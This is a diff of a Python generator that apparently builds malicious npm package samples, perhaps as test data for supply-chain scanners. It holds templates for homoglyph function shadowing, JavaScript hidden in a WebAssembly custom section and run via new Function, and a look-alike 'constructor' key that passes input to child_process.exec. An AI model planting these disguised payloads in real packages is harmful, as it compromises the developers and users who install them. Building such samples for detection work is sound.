@@ -64,7 +64,7 @@ def homoglyph(files: Files) -> Files:
             calls = len(re.findall(rb"\b%s\(" % word, data))
             if calls < 2:
                 continue
-            other = word.replace(b"a", "а".encode(), 1)
+            other = word.replace(b"a", "\u0430".encode(), 1)
             made = re.sub(rb"(?<!function )\b%s\((?!\))" % word, other + b"(", data, count=1)
             body = b"\nfunction %s(x, ...more) {\n  globalThis.__seen = x;\n  return %s(x, ...more);\n}\n" % (other, word)  # fmt: skip
             return {name: made.rstrip() + b"\n" + body} if made != data else {}
@@ -147,7 +147,7 @@ ALL: tuple[Way, ...] = (
         from_fixture("lib/data.wasm", b"\0asm\1\0\0\0" + b"\0\x40\4blob" + chance(58), b"WebAssembly.compile(USE(fs).readFileSync('lib/data.wasm')).then((m) => { for (const s of WebAssembly.Module.customSections(m, 'blob')) new Function(new TextDecoder().decode(s))(); });"),
     ),
     # Trojan Source, 2021, and names in two alphabets.
-    *ways("npm, tune: letters that look like others", ("a function of nearly the same name", homoglyph), ("directions", override), ("a property", js("Object.prototype.hasOwnProperty.call(GIVEN || {}, 'cоnstructor') && USE(child_process).exec(GIVEN['cоnstructor']);".encode(), AMID))),
+    *ways("npm, tune: letters that look like others", ("a function of nearly the same name", homoglyph), ("directions", override), ("a property", js("Object.prototype.hasOwnProperty.call(GIVEN || {}, 'c\u043enstructor') && USE(child_process).exec(GIVEN['c\u043enstructor']);".encode(), AMID))),
     # Reports of errors that carry more than errors; 2022 to 2026.
     *ways(
         "npm, held: what is reported carries more",
